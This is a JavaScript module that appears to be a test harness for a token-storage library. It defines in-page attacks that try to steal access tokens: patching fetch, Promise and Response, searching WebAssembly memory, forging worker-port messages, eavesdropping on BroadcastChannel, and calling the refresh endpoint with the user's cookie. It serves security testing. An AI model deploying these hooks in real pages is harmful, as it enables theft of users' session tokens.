// @ts-check
// The attacks. Each is a script that is in the page, comes after the package, and may do what any script of the page may.

import { channelNames, speaksTo } from './reach.js';

/** @typedef {import('./spy.js').Spy} Spy */
/** @typedef {import('/tokenkeep/index.js').TokenManager} TokenManager */

/**
 * `use` is what the app does meanwhile: it refreshes, and calls the API.
 * @typedef {{ auth: TokenManager, use: () => Promise<unknown> }} App
 * @typedef {{ name: string, title: string, how: string, isInherent?: boolean, run: (spy: Spy, app: App) => Promise<unknown> }} Attack
 */

/** So long it listens to what others say, in milliseconds. */
const LISTEN = 500;

const REFRESH = { method: 'POST', credentials: /** @type {const} */ ('include'), headers: { 'X-Requested-With': 'fetch' } };

/** @type {Attack[]} */
export const ATTACKS = [
  {
    name: 'fetch',
    title: 'Patch fetch and Headers',
    how: 'Puts its own functions in the place of fetch, Headers and Request, and reads what the app sends.',
    run(spy, app) {
      spy.patch(globalThis, 'fetch', 'Headers', 'Request');
      spy.patchAll(Headers.prototype);
      return app.use();
    },
  },
  {
    name: 'promise',
    title: 'Patch Promise and Response',
    how: 'Puts its own functions in the place of Promise.prototype.then and Response.prototype.json, and reads the answer to a refresh.',
    run(spy, app) {
      spy.patch(Response.prototype, 'json', 'text', 'arrayBuffer', 'clone', 'body');
      spy.replace(Promise.prototype, 'then', (original) => {
        /** @this {unknown} @param {any} work @param {...unknown} more */
        return function then(work, ...more) {
          const heard = typeof work === 'function' ? (/** @type {unknown} */ value) => (spy.keep(value), work(value)) : work;
          return Reflect.apply(original, this, [heard, ...more]);
        };
      });
      return app.use();
    },
  },
  {
    name: 'memory',
    title: 'Search the WebAssembly’s memory',
    how: 'Waits at WebAssembly, Uint8Array and DataView for whoever looks into a memory, takes hold of it, and searches all of it.',
    run(spy, app) {
      spy.patch(WebAssembly, 'instantiate', 'Instance');
      spy.patch(WebAssembly.Memory.prototype, 'buffer');
      spy.patch(globalThis, 'Uint8Array', 'DataView', 'Uint32Array', 'Int32Array');
      spy.patch(Object.getPrototypeOf(Uint8Array.prototype), 'subarray', 'set', 'slice', 'buffer');
      return app.use();
    },
  },
  {
    name: 'messages',
    title: 'Ask for it, with forged messages',
    how: 'Takes hold of the port to a worker, if there is one, and asks there for the token; and has the manager call the refresh endpoint.',
    async run(spy, { auth, use }) {
      const ports = await speaksTo(spy, use);
      for (const port of ports) await ask(spy, port);
      const peek = /** @type {Promise<unknown>} */ (auth.getAccessToken()).catch(() => undefined);
      const answer = auth.fetch('/auth/refresh', REFRESH).then((response) => response.text(), () => undefined);
      spy.keep(await peek, await answer, auth.state);
    },
  },
  {
    name: 'channel',
    title: 'Listen to the channel between tabs',
    how: 'Finds out the name of the BroadcastChannel by which tabs hand the token on, and listens.',
    async run(spy, app) {
      const ears = (await channelNames()).map((name) => new BroadcastChannel(name));
      if (!ears.length) throw new Error('no channel was found');
      for (const ear of ears) ear.onmessage = ({ data }) => spy.keep(data);
      await app.use();
      await new Promise((resolve) => setTimeout(resolve, LISTEN));
      for (const ear of ears) ear.close();
    },
  },
  {
    name: 'refresh',
    title: 'Refresh by the cookie',
    how: 'Sends the refresh request itself. The browser adds the cookie, whoever in the page asks.',
    isInherent: true,
    async run(spy) {
      spy.keep(await (await fetch('/auth/refresh', REFRESH)).text());
    },
  },
];

/** Asks on the page's own port, in the words of the package and in others, and keeps what is answered. @param {Spy} spy @param {MessagePort} port */
async function ask(spy, port) {
  const methods = ['getAccessToken', 'peekAccessToken', 'state', 'known', 'refresh'];
  const request = { url: new URL('/auth/refresh', location.href).href, init: { method: 'POST', headers: [['X-Requested-With', 'fetch']] } };
  // Numbers that the page's own calls will not come to.
  const messages = [
    ...methods.map((method, n) => ({ kind: 'call', id: 1e6 + n, method })),
    { kind: 'fetch', id: 2e6, request },
    { kind: 'call', id: 2e6 + 1, method: 'exchange', request },
  ];
  const waiting = new Set(messages.map(({ id }) => id));
  await new Promise((/** @type {(value: void) => void} */ resolve) => {
    port.addEventListener('message', ({ data }) => {
      spy.keep(data);
      waiting.delete(data.id);
      if (!waiting.size) resolve();
    });
    port.postMessage({ kind: 'token' });
    port.postMessage({ kind: 'hello', version: 1, options: { exposeToken: true }, marks: {}, maybeSignIn: false });
    for (const message of messages) port.postMessage(message);
  });
}
